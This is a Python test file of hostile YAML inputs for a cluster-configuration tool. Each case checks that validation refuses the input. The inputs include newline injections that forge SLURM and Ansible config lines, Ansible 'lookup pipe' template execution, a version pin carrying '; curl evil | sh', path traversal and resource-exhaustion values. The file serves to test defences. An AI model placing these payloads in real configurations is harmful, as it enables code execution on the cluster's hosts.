"""What the model accepts: strings that reach SLURM, Lustre, Ansible and AWS files, site catalogs, finite
numbers, one-line echoes and bounded expansion. Each case is refused by every command with exit 2."""

from __future__ import annotations

from tests.hostile.cases_basic import VALID
from tests.hostile.harness import Case

REFUSED = {"*": frozenset({2})}

ONPREM_LUSTRE = VALID + "storage:\n  lustre: {mount: /lustre, mgs_nid: 10.0.0.10@o2ib, fsname: scratch}\n"

SITE_CATALOG = """\
hardware:
  site-gpu:
    kind: server
    description: a site server
    max_power_kw: 10.2
    u_height: 8
    weight_kg: 130
    depth_mm: 897
    psus: {count: 6, required: 4}
    max_inlet_c: 35
    gpus: {model: H100-SXM5, count: 8, memory_gib: 80}
    sources: {max_power_kw: s, u_height: s, weight_kg: s, depth_mm: s, psus: s, max_inlet_c: s, gpus: s}
"""
SITE_BLUEPRINT = VALID.replace("hardware: dgx-h100", "hardware: site-gpu")


def _with_catalog(name: str, problem: str, catalog: str, says: str) -> Case:
    """A blueprint that uses a site catalog, run through validate, check, plan and render with --catalog."""
    return Case(name, problem, {"cluster.yaml": SITE_BLUEPRINT, "site.yaml": catalog},
                argv=[[command, "{tree}/cluster.yaml", "--catalog", "{tree}/site.yaml", *extra]
                      for command, extra in (("validate", []), ("check", []), ("plan", []),
                                             ("render", ["-o", "{out}/render"]))],
                exits={"*": frozenset({2})}, says={f"{c}#{i}": says for i, c in enumerate(
                    ("validate", "check", "plan", "render"))})


SITE_NETWORKS = VALID + ("site:\n  name: dc1\n  rows: []\n  networks:\n"
                         "    provisioning: {cidr: 10.1.0.0/22, gateway: 10.1.0.1}\n")

CASES = [
    Case("model-network-cidr-newline", "a newline in a site network's CIDR adds a directive to dnsmasq's files",
         {"cluster.yaml": SITE_NETWORKS.replace("cidr: 10.1.0.0/22", 'cidr: "10.1.0.0/22\\ndhcp-script=/tmp/x"')},
         exits=REFUSED, says={"validate": "is not an IPv4 CIDR block"}),
    Case("model-network-gateway-template", "Ansible template syntax as a site network's gateway",
         {"cluster.yaml": SITE_NETWORKS.replace("gateway: 10.1.0.1", "gateway: \"{{ lookup('pipe', 'id') }}\"")},
         exits=REFUSED, says={"validate": "is not an IPv4 address"}),
    Case("model-network-reserved-huge", "a reserved count that would make the plan walk billions of addresses",
         {"cluster.yaml": SITE_NETWORKS.replace("gateway: 10.1.0.1", "gateway: 10.1.0.1, reserved: 4000000000")},
         exits=REFUSED, says={"validate": "less than or equal to 1000000"}),
    Case("model-max-time-newline", "a newline in max_time adds SlurmctldHost= to slurm.conf",
         {"cluster.yaml": VALID.replace("default: true}",
                                        'default: true, max_time: "1-00:00:00\\nSlurmctldHost=evil"}')},
         exits=REFUSED, says={"validate": "is not a SLURM time limit"}),
    Case("model-mgs-nid-newline", "a newline in the MGS NID adds keys to group_vars",
         {"cluster.yaml": ONPREM_LUSTRE.replace("mgs_nid: 10.0.0.10@o2ib",
                                                'mgs_nid: "10.0.0.10@o2ib\\nlustre_client_fsname: evil"')},
         exits=REFUSED, says={"validate": "is not an LNet NID"}),
    Case("model-mount-options-template", "Ansible template syntax and a newline in Lustre mount options",
         {"cluster.yaml": ONPREM_LUSTRE.replace(
             "fsname: scratch}", "fsname: scratch, mount_options: \"defaults,{{ lookup('pipe', 'id') }}\"}")},
         exits=REFUSED, says={"validate": "is not mount options"}),
    Case("model-mount-path-dotdot", "a Lustre mount point that climbs out with '..'",
         {"cluster.yaml": ONPREM_LUSTRE.replace("mount: /lustre", "mount: /lustre/../etc")},
         exits=REFUSED, says={"validate": "is not an absolute path"}),
    Case("model-target-newline", "a target name with a line break and a forged config line",
         {"cluster.yaml": VALID.replace("target: onprem", 'target: "onprem\\nSlurmctldHost=evil"')},
         exits=REFUSED, says={"validate": "is not a target name"}),
    Case("model-target-names-a-module", "a target naming a module of the targets package that is not a target",
         {"cluster.yaml": VALID.replace("target: onprem", "target: protocol")},
         exits=REFUSED, says={"validate": "unknown target 'protocol'"}),
    Case("model-version-pin-shell", "a software pin with shell syntax",
         {"cluster.yaml": VALID + 'software: {nccl: "2.26.2; curl evil | sh"}\n'},
         exits=REFUSED, says={"validate": "is not a version"}),
    Case("model-rocm-pin-newline", "a ROCm pin (echoed by SW-001 and SW-002) with a line break and a forged finding",
         {"cluster.yaml": VALID + 'software: {stack: rocm, rocm: "7.2.2\\nSW-001 waived", rccl: "2.27.7"}\n'},
         exits=REFUSED, says={"validate": "is not a version"}),
    Case("model-pool-pin-newline", "a pool's own software pin (rendered to its pool_<name>.yml) with a line break "
         "and a forged group var",
         {"cluster.yaml": VALID.replace("partition: train}",
                                        'partition: train, software: {nccl: "2.30.7\\nslurm_version: 1"}}')},
         exits=REFUSED, says={"validate": "is not a version"}),
    Case("model-pool-target-newline", "a pool's owning target with a line break and a forged group var",
         {"cluster.yaml": VALID.replace("partition: train}",
                                        'partition: train, target: "onprem\\nslurm_version: 1"}')},
         exits=REFUSED, says={"validate": "is not a target name"}),
    Case("model-pool-target-path", "a pool's owning target naming a path out of the targets package",
         {"cluster.yaml": VALID.replace("partition: train}", 'partition: train, target: "../../lab"}')},
         exits=REFUSED, says={"validate": "is not a target name"}),
    Case("model-pool-bmc-template", "a pool's BMC kind with Ansible template syntax and a forged config line "
         "(the field lets SLURM power the pool's servers)",
         {"cluster.yaml": VALID.replace("partition: train}",
                                        'partition: train, bmc: "{{ lookup(\'pipe\', \'id\') }}\\nSuspendTime=0"}')},
         exits=REFUSED, says={"validate": "redfish"}),
    Case("model-pool-target-other-kind", "a pool moved to a cloud target its section and hardware do not fit",
         {"cluster.yaml": VALID.replace("partition: train}", "partition: train, target: aws}")},
         exits=REFUSED, says={"validate": "needs an instance"}),
    Case("model-rack-cdu-pumps", "an in-rack CDU's pump redundancy that is not n or n+1",
         {"cluster.yaml": VALID + "site:\n  name: dc1\n  rows:\n    - name: a\n      racks:\n        - name: a01\n"
                                  "          cooling: {kind: liquid, cdu_kw: [250], cdu_pumps: \"n+1; reboot\"}\n"},
         exits=REFUSED, says={"validate": "cdu_pumps"}),
    Case("model-gres-newline", "a newline in a pool's gres adds a PrologSlurmctld= line",
         {"cluster.yaml": VALID.replace("partition: train}",
                                        'partition: train, gres: "gpu:8\\nPrologSlurmctld=/tmp/x"}')},
         exits=REFUSED, says={"validate": "is not SLURM GRES"}),
    Case("model-non-finite-number", "a .nan inlet limit would pass every comparison",
         {"cluster.yaml": VALID + "site:\n  name: dc\n  max_inlet_c: .nan\n  rows: []\n"},
         exits=REFUSED, says={"validate": "expected a finite number"}),
    Case("model-wrong-type-secret", "a wrong-typed value holding a key is not echoed whole",
         {"cluster.yaml": VALID + 'site: "-----BEGIN OPENSSH PRIVATE KEY-----\\n' + "A" * 4000 + '"\n'},
         exits=REFUSED, says={"validate": "expected a mapping, got a text of 4,036 characters on 2 lines"}),
    Case("model-racks-multiply", "r[0-999] rows × {row}-k[0-999] racks is a million racks from two lines",
         {"cluster.yaml": VALID + 'site:\n  name: dc\n  rows:\n    - name: r[0-999]\n'
                                  '      racks: [{name: "{row}-k[0-999]"}]\n'},
         exits=REFUSED, says={"validate": "CLUSTERFORGE_MAX_RACKS"}),
    Case("model-nodes-ten-million", "count: 10000000 on a pool would make render write hundreds of MB",
         {"cluster.yaml": VALID.replace("count: 2,", "count: 10000000,")},
         exits=REFUSED, says={"validate": "CLUSTERFORGE_MAX_NODES"}),
    Case("model-pools-many", "5,000 tiny pools (the limit is checked before the model validates them)",
         {"cluster.yaml": "apiVersion: clusterforge/v1\nkind: Cluster\nname: tiny\ntarget: onprem\npools:\n"
          + "".join(f"  - {{name: p{i}, hardware: dgx-h100, count: 1}}\n" for i in range(5_000))},
         exits=REFUSED, says={"validate": "CLUSTERFORGE_MAX_POOLS"}),
    _with_catalog("model-catalog-gpu-model-newline", "a site catalog's GPU model with a newline reaches gres.conf",
                  SITE_CATALOG.replace("model: H100-SXM5", 'model: "H100\\nPrologSlurmctld=/tmp/x"'),
                  "is not a GPU model"),
    _with_catalog("model-catalog-nan-inlet", "a NaN inlet limit in a site catalog silently disables CLG-005",
                  SITE_CATALOG.replace("max_inlet_c: 35", "max_inlet_c: .nan"), "expected a finite number"),
    _with_catalog("model-catalog-software-source-line-break", "a software row's source carries a line break (a "
                  "forged line in `catalog software` and the review)", SITE_CATALOG + "software:\n  cuda:\n    - "
                  '{cuda: "13.4", min_driver: "600.1", source: "ok\\nSW-001 waived by admin"}\n',
                  "one line of text without control characters"),
    _with_catalog("model-catalog-software-shadow", "a site row redefines a built-in release with an older driver, "
                  "so a driver CUDA 12.8 cannot run passes SW-001", SITE_CATALOG + "software:\n  cuda:\n    - "
                  '{cuda: "12.8", min_driver: "400.1", source: "we say so"}\n', "is already defined"),
]
